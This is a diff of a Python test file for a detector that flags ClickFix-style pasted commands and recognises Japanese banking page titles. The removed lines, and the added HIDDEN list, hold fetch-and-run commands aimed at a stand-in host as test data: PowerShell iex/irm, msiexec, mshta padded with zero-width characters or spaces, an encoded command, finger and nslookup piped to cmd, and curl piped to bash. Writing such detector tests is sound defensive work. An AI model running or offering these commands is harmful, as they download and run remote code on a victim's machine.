@@ -17,27 +17,13 @@ from app.rescue.remote import RunningRemote
 from app.settings.settings import Warnings
 from tests.support.bounded import bounded
 
-COPIED, TITLES = (
+COPIED, OURS, TITLES = (
     tomllib.loads(Path(__file__).with_name(f"{name}.toml").read_text(encoding="utf-8"))
-    for name in ("clickfix", "titles")
+    for name in ("clickfix", "copied", "titles")
 )
 BANK, OTHER_BANK = "さくら銀行 ログイン - Chromium", "みどり信用金庫 振込"
 PAGES = (BANK, OTHER_BANK, "きょうの天気", "")
-TEXTS = ("", BANK, "まごの写真です", "https://www.example.jp/a?b=c", "090-1234-5678", "XK4F-99AB-77CD-12EF")
-USUAL = (
-    *("powershell iex(irm a.example/x)", "irm https://a.example/x|iex", "msiexec /i https://a.example/x.msi /qn"),
-    *("conhost --headless powershell irm a.example", "finger user@a.example | cmd", "nslookup -q=txt a.example | cmd"),
-    *(r"rundll32 \\host\share,Entry", "powershell -W 1 -Enc SQBFAFgAIAAoAE4AZQB3AA==", "m\u200bshta https://a.example"),
-    *(f"{' ' * 2_000}mshta https://a.example", "\u200b" * 3_000 + "mshta https://a.example"),
-    "curl a.example/x | bash # https://get.docker.com",
-)
-"""What others than the lists' authors saw, or hide by."""
-
-ORDINARY = (
-    "curl -fsSL https://get.docker.com | bash",
-    "curl -LsSf https://astral.sh/uv/install.sh | sh",
-    "ipconfig /all",
-)
+HIDDEN = [f"{sign * 3_000}mshta https://a.example" for sign in (" ", "\u200b")]
 RUN = "ファイル名を指定して実行"
 OTHERS = (("explorer", RUN), ("explorer", "ドキュメント"), ("powershell", BANK), ("notepad", BANK))
 windows = st.sampled_from([*(("chrome", title) for title in PAGES), *OTHERS])
@@ -49,8 +35,8 @@ def test_of_386_commands_12_are_missed_and_of_350_harmless_texts_one_is_taken_fo
     judge = shipped_dangers(Warnings.ALL)
     assert (len(COPIED["malicious"]), len(COPIED["benign"])) == (386, 350)
     assert [text for text in COPIED["malicious"] if not judge.is_command(text)] == COPIED["missed"]
-    assert [text for text in (*COPIED["benign"], *TEXTS, *ORDINARY) if judge.is_command(text)] == COPIED["taken"]
-    assert [text for text in USUAL if not judge.is_command(text)] == []
+    assert [text for text in COPIED["benign"] + OURS["harmless"] if judge.is_command(text)] == COPIED["taken"]
+    assert [text for text in OURS["commands"] + HIDDEN if not judge.is_command(text)] == []
 
 
 def test_pages_of_banks_are_known_by_their_titles_and_others_that_talk_of_money_are_not() -> None:
@@ -60,24 +46,10 @@ def test_pages_of_banks_are_known_by_their_titles_and_others_that_talk_of_money_
     assert [title for title in TITLES["harmless"] if judge.is_bank(title)] == []
 
 
-HOSTILE = (
-    "curlhttp://;",
-    "base64-d|",
-    "a\u200b\u2060\ufeff",
-    "curl ",
-    "rundll32 temp",
-    "mshta a-",
-    "1.1.1.",
-    "ﷺ",
-    " ",
-    "#c:\\",
-)
-
-
-@pytest.mark.parametrize("piece", HOSTILE)
+@pytest.mark.parametrize("piece", OURS["endless"])
 def test_no_text_of_a_page_keeps_it_busy(piece: str) -> None:
     judge, text = shipped_dangers(Warnings.ALL), piece * (MEGABYTE // len(piece))
-    with bounded(10):  # what is not linear takes minutes
+    with bounded(10):
         judge.is_command(text)
         judge.is_bank(text)
 
